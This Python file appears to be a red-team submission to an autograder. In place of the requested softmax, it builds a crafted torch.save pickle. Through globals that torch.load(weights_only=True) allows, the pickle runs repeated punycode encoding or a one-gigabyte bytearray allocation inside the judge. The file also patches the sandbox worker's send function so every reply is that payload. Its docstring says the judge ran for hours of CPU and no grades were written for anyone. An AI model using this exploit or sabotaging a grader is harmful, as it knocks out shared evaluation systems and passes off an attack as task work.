"""Red team round 18: every reply is a torch.save archive whose pickle does work while the judge
loads it, through globals torch.load(weights_only=True) allows: `_codecs.encode` with the
quadratic punycode codec, R times on one memoised string (__MODE__ = "codec"), or `bytearray(n)`
(__MODE__ = "bytearray"). Both ran inside torch.load in the judge, before any bound: hours of CPU
from 32 KB, gigabytes from 871 bytes; a class's `grade` wrote nothing for anybody."""

import io
import struct
import sys
import zipfile

import torch

MODE = "__MODE__"


def _text(s):
    b = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def _pickle():
    out = [b"\x80\x02}", _text("type"), _text("reply"), b"s", _text("trace"), b"Ns"]
    out += [_text("value"), b"}", _text("k"), b"q\x00"]
    if MODE == "codec":
        s = "".join(chr(0x100 + i) for i in range(2000))
        out += [b"c_codecs\nencode\nq\x01", _text(s), b"q\x02", _text("punycode"), b"q\x03\x86Rs"]
        out += [b"h\x00h\x01h\x02h\x03\x86Rs"] * 19
    else:
        out += [b"c__builtin__\nbytearray\nJ\x00\x00\x00\x40\x85Rs"]  # bytearray(2**30)
    return b"".join(out + [b"s."])


def _frame():
    buf = io.BytesIO()
    torch.save({"type": "reply", "trace": None, "value": 0}, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for info in src.infolist():
            data = _pickle() if info.filename.endswith("data.pkl") else src.read(info)
            z.writestr(info.filename, data)
    return out.getvalue()


_FRAME = _frame()
sys.modules["autograder.sandbox.inside.worker"].send = lambda chan, message: chan.send(_FRAME)


def softmax(x, dim=-1):
    raise RuntimeError("never called: every reply is the frame above")
